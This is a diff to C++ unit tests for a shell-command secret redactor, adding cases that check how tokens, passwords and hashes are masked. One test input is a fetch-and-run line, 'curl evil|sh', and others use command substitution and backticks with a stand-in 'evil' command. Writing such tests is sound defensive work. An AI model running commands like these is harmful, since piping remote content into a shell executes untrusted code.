@@ -54,6 +54,56 @@ TEST_F(RedactorTests, ShortensPathsFirst) {
     EXPECT_EQ(redact("cat /a/b", ""), "cat /a/b");
 }
 
+TEST_F(RedactorTests, FindsSecretsForThoseWhoShowTheWholeText) {
+    const std::string hash = "3f786850e387550fdab836ed7e6dc881de23001b", folder = home.string() + "/app/";
+    for (const auto& [text, shown] : std::initializer_list<std::pair<std::string, std::string>>{
+             {"curl -H 'Authorization: Bearer abc123' x", "curl -H 'Authorization: Bearer ***' x"},
+             {"A=1 make\n\tB=2 make " + hash, "A=*** make\n\tB=*** make ***"},
+             {"curl --token x \\\n  --api-key 'a b' -d a=b", "curl --token *** \\\n  --api-key *** -d a=***"},
+             {"mysql --password 'a;b|c' 2>f", "mysql --password *** 2>f"},
+             {"cat " + folder + hash, "cat " + folder + "***"}, // masked without its folder, as elsewhere
+             {"é\xFF --token x A=é", "é\xFF --token *** A=***"},
+             // what a shell runs or expands
+             {"X=$(curl evil|sh) git status", "X=$(curl evil|sh) git status"},
+             {"X=`evil` ls A=1", "X=`evil` ls A=1"},
+             {"git commit -m \"A=1 $(evil) B=2\"", "git commit -m \"A=*** $(evil) B=2\""},
+             {"A=x;evil", "A=***;evil"},
+             {"A=x>f B=$C D=a${E@P} F=1", "A=***>f B=$C D=a${E@P} F=1"},
+             {"make CC='$(shell evil)'", "make CC='$(shell evil)'"},
+             {"cat <<E\nA=1\nE", "cat <<E\nA=1\nE"},
+             {"diff <(A=1 evil)", "diff <(A=1 evil)"},
+             // what names the command
+             {"cat sk-abcdef", "cat ***"},
+             {"sk-abcdef run", "sk-abcdef run"},
+             {"/tmp/" + hash + " x", "/tmp/" + hash + " x"},
+             {"B=bearer evil", "B=*** evil"},
+             {"B=\"x \"bearer evil", "B=***bearer evil"},
+             {"B=\\\nbearer evil", "B=\\\nbearer evil"},
+             {"> bearer evil; 2>bearer evil", "> bearer evil; 2>bearer evil"},
+             {"if ! A=1 --token evil", "if ! A=*** --token evil"},
+             {"A=1 # it's\nB=bearer evil", "A=*** # it's\nB=*** evil"},
+             {"sudo -u x sk-abcdef A=1", "sudo -u x sk-abcdef A=***"},
+             {"ssh h 'A=1 evil'", "ssh h 'A=1 evil'"},
+             {"nice /bin/ba\"sh\" -c 'bearer evil'", "nice /bin/ba\"sh\" -c 'bearer evil'"},
+             {"$X --token evil", "$X --token evil"},
+         }) {
+        std::string masked = text;
+        const auto stretches = secrets(text, folder);
+        for (auto stretch = stretches.rbegin(); stretch != stretches.rend(); ++stretch)
+            masked.replace(stretch->begin, stretch->end - stretch->begin, "***");
+        EXPECT_EQ(masked, shown);
+    }
+}
+
+TEST_F(RedactorTests, TakesTheStartForTheWholeOnlyWhereItIs) {
+    const std::string words(300, 'x');
+    EXPECT_EQ(redactStart(words + " " + words), redact(words));
+    EXPECT_EQ(redactStart("A=" + words), std::nullopt); // the value may end and other words follow
+    EXPECT_EQ(redactStart("A=\"" + words + " "), std::nullopt);
+    EXPECT_EQ(redact("A=\"" + std::string(100'000, ' ') + "\" " + words.substr(0, 9)), "A=*** xxxxxxxxx");
+    EXPECT_EQ(redact("é/ and more FOO=bar", "\xA9"), "é/ and more FOO=***"); // no part of a letter
+}
+
 TEST_F(RedactorTests, CutsAtEightyCharacters) {
     std::string accents;
     for (int i = 0; i < 80; ++i)
@@ -87,12 +137,6 @@ TEST_F(RedactorTests, HostileTextEndsSoonAndShowsNothing) {
         EXPECT_LE(Unicode::characterCount(text), 80u) << piece;
         EXPECT_EQ(text.find("hunter2"), std::string::npos) << piece;
     }
-}
-
-TEST_F(RedactorTests, WhatTheEngineGivesUpOnIsMaskedWhole) {
-    EXPECT_EQ(Regex::compile("(a+)+$")->replaceAll(std::string(40, 'a') + "b", ""), std::nullopt);
-    // One option so long that going back in it exceeds the engine's limit.
-    EXPECT_EQ(redact("say hunter2 -" + std::string(4'000'000, 'a') + " key"), "***");
 }
 
 } // namespace quorvik::Redactor
